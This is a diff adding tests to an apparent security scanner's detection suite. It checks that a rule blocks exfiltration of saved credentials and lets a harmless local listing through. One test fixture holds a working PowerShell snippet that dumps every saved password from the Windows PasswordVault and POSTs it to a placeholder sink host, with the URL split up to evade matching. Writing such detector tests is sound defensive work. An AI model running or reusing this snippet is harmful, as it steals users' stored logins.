@@ -203,3 +203,28 @@ def test_txt_records_looked_up_and_printed_do_not_block(tmp_path: Path) -> None:
         'subprocess.run(["dig", "+short", "TXT", sys.argv[1]], check=False)\n'
     )
     assert blocking(tmp_path, {"cmd/txt/main.go": go, "scripts/txt.py": py}) == {}
+
+
+# ------------------------------------------------ the system's saved-login store read back and sent
+
+
+def test_powershell_password_vault_dump_posted_blocks(tmp_path: Path) -> None:
+    ps = (
+        "[void][Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType=WindowsRuntime]\n"
+        "$vault = New-Object Windows.Security.Credentials.PasswordVault\n"
+        "$all = foreach ($c in $vault.RetrieveAll()) { $c.RetrievePassword(); $c }\n"
+        '$api = "https://" + "vault-stats" + ".sink.example.test/in"\n'
+        "Invoke-WebRequest -Uri $api -Method Post -Body ($all | ConvertTo-Json) | Out-Null\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"tools/stats.ps1": ps})
+
+
+def test_powershell_credential_manager_listing_shown_locally_does_not_block(tmp_path: Path) -> None:
+    ps = (
+        "$vault = New-Object Windows.Security.Credentials.PasswordVault\n"
+        "$rows = foreach ($c in $vault.RetrieveAll()) { [pscustomobject]@{ Resource = $c.Resource; User = $c.UserName } }\n"
+        "$rows | Sort-Object Resource | Format-Table\n"
+        "$doc = 'https://' + 'learn.microsoft.com' + '/windows/security/'\n"
+        'Write-Host "Review stale entries; see $doc"\n'
+    )
+    assert blocking(tmp_path, {"tools/list.ps1": ps}) == {}
